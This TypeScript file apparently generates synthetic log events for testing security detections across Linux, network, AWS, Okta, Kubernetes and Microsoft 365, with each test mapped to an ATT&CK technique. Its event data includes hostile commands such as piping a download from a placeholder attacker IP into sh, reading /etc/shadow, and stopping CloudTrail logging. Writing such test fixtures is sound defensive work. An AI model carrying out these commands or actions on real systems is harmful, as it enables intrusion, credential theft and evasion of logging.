import type { AtomicTest } from '../atomic-test.ts'
import { cloudTrail, exchange, kubernetes, okta, ranOnLinux, sysmonLinux, zeek } from './records.ts'

const ALL = '0.0.0.0/0'

export const OTHER_TESTS: readonly AtomicTest[] = [
  {
    ...{ id: 'linux-web-server-shell', technique: 'T1505.003', techniqueName: 'Web Shell', tactic: 'persistence' },
    ...{ platform: 'linux', format: 'sysmon-linux', name: 'A web server starts a shell' },
    description: 'A script that was uploaded lets the web server run commands.',
    events: (x) => [ranOnLinux(x, '/usr/bin/bash', `bash -c "id; echo ${x.marker}"`, '/usr/sbin/apache2')],
  },
  {
    ...{ id: 'linux-loader-preload', technique: 'T1574.006', techniqueName: 'Dynamic Linker Hijacking' },
    ...{ tactic: 'persistence', platform: 'linux', format: 'sysmon-linux' },
    name: 'The list of preloaded libraries is written',
    description: 'A library in it is loaded into every program.',
    events: (x) => [sysmonLinux(x, 11, { Image: '/usr/bin/bash', TargetFilename: '/etc/ld.so.preload' })],
  },
  {
    ...{ id: 'linux-authorized-keys', technique: 'T1098.004', techniqueName: 'SSH Authorized Keys' },
    ...{ tactic: 'persistence', platform: 'linux', format: 'sysmon-linux', name: 'A key to log on with is added' },
    description: 'Whoever has the key comes back without a password.',
    events: (x) => [sysmonLinux(x, 11, { Image: '/usr/bin/bash', TargetFilename: '/root/.ssh/authorized_keys' })],
  },
  {
    ...{ id: 'linux-download-to-shell', technique: 'T1059.004', techniqueName: 'Unix Shell', tactic: 'execution' },
    ...{ platform: 'linux', format: 'sysmon-linux', name: 'A download is piped into a shell' },
    description: 'A script is fetched and run in one line.',
    events: (x) => [ranOnLinux(x, '/usr/bin/bash', `bash -c "curl -s http://${x.attackerIp}/i.sh | sh"`)],
  },
  {
    ...{ id: 'linux-shadow-read', technique: 'T1003.008', techniqueName: '/etc/passwd and /etc/shadow' },
    ...{ tactic: 'credential-access', platform: 'linux', format: 'sysmon-linux' },
    name: 'The file of password hashes is read',
    description: 'What is in /etc/shadow can be cracked elsewhere.',
    events: (x) => [ranOnLinux(x, '/usr/bin/cat', 'cat /etc/shadow')],
  },
  {
    ...{
      id: 'network-dns-tunnel',
      technique: 'T1048.003',
      tactic: 'exfiltration',
      platform: 'network',
      format: 'zeek',
    },
    techniqueName: 'Exfiltration Over Unencrypted Non-C2 Protocol',
    name: 'Data leaves in the names that are asked for',
    description: 'Labels that are long and without sense, of one domain.',
    events: (x) =>
      Array.from({ length: 10 }, (_, n) =>
        zeek(x, 'dns', {
          ...{ ts: x.atMs / 1000 + n, uid: `${x.marker}-${n}`, qtype_name: 'TXT', proto: 'udp', 'id.resp_p': 53 },
          query: `${String(n).padStart(2, '0')}b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7b8c9d0a1b2c3d4e5f6a7.t.exercise.example`,
        }),
      ),
  },
  {
    ...{ id: 'network-self-signed-odd-port', technique: 'T1571', techniqueName: 'Non-Standard Port' },
    ...{ tactic: 'command-and-control', platform: 'network', format: 'zeek' },
    name: 'TLS with a certificate of its own on an odd port',
    description: 'A channel to a server that somebody set up by hand.',
    events: (x) => [
      zeek(x, 'ssl', {
        ...{
          'id.resp_p': 4444,
          version: 'TLSv12',
          server_name: x.marker,
          validation_status: 'self signed certificate',
        },
      }),
    ],
  },
  {
    ...{ id: 'aws-trail-stopped', technique: 'T1562.008', techniqueName: 'Disable or Modify Cloud Logs' },
    ...{ tactic: 'defense-evasion', platform: 'aws', format: 'aws-cloudtrail', name: 'The trail is stopped' },
    description: 'What happens afterwards is in no log.',
    events: (x) => [cloudTrail(x, 'cloudtrail', 'StopLogging', { name: 'main' })],
  },
  {
    ...{ id: 'aws-access-key-for-other', technique: 'T1098.001', techniqueName: 'Additional Cloud Credentials' },
    ...{ tactic: 'persistence', platform: 'aws', format: 'aws-cloudtrail', name: 'A key for somebody else' },
    description: 'A key is made for another user, to come back with.',
    events: (x) => [cloudTrail(x, 'iam', 'CreateAccessKey', { userName: 'backup' })],
  },
  {
    ...{ id: 'aws-ingress-opened', technique: 'T1562.007', techniqueName: 'Disable or Modify Cloud Firewall' },
    ...{ tactic: 'defense-evasion', platform: 'aws', format: 'aws-cloudtrail' },
    name: 'A port is opened to everybody',
    description: 'A security group lets the whole internet reach SSH.',
    events: (x) => [
      cloudTrail(x, 'ec2', 'AuthorizeSecurityGroupIngress', {
        groupId: 'sg-0exercise',
        ipPermissions: {
          items: [{ ipProtocol: 'tcp', fromPort: 22, toPort: 22, ipRanges: { items: [{ cidrIp: ALL }] } }],
        },
      }),
    ],
  },
  {
    ...{ id: 'okta-push-fatigue', technique: 'T1621', tactic: 'credential-access', platform: 'okta', format: 'okta' },
    techniqueName: 'Multi-Factor Authentication Request Generation',
    name: 'Somebody refuses push after push',
    description: 'Twenty requests within a minute, in the hope that one is allowed by mistake.',
    events: (x) => Array.from({ length: 20 }, (_, n) => okta(x, 'user.mfa.okta_verify.deny_push', 'SUCCESS', n * 2)),
  },
  {
    ...{ id: 'okta-administrator-made', technique: 'T1098.003', techniqueName: 'Additional Cloud Roles' },
    ...{ tactic: 'privilege-escalation', platform: 'okta', format: 'okta', name: 'Somebody is made an administrator' },
    description: 'A privilege is granted to an account of the directory.',
    events: (x) => [okta(x, 'user.account.privilege.grant')],
  },
  {
    ...{ id: 'kubernetes-exec', technique: 'T1609', techniqueName: 'Container Administration Command' },
    ...{ tactic: 'execution', platform: 'kubernetes', format: 'kubernetes', name: 'A command is run in a pod' },
    description: 'Somebody opens a shell in a container that runs.',
    events: (x) => [kubernetes(x, 'create', 'pods', { objectRef: { subresource: 'exec' } })],
  },
  {
    ...{ id: 'kubernetes-secrets-listed', technique: 'T1552.007', techniqueName: 'Container API' },
    ...{ tactic: 'credential-access', platform: 'kubernetes', format: 'kubernetes', name: 'Secrets are listed' },
    description: 'All secrets of a namespace are asked for at once.',
    events: (x) => [kubernetes(x, 'list', 'secrets')],
  },
  {
    ...{ id: 'microsoft365-mailbox-forwards', technique: 'T1114.003', techniqueName: 'Email Forwarding Rule' },
    ...{ tactic: 'collection', platform: 'microsoft365', format: 'auto', name: 'A mailbox forwards to the outside' },
    description: 'Whatever comes in is sent to somebody else as well.',
    events: (x) => [exchange(x, 'Set-Mailbox', { Identity: x.user, ForwardingSmtpAddress: 'smtp:x@exercise.example' })],
  },
]
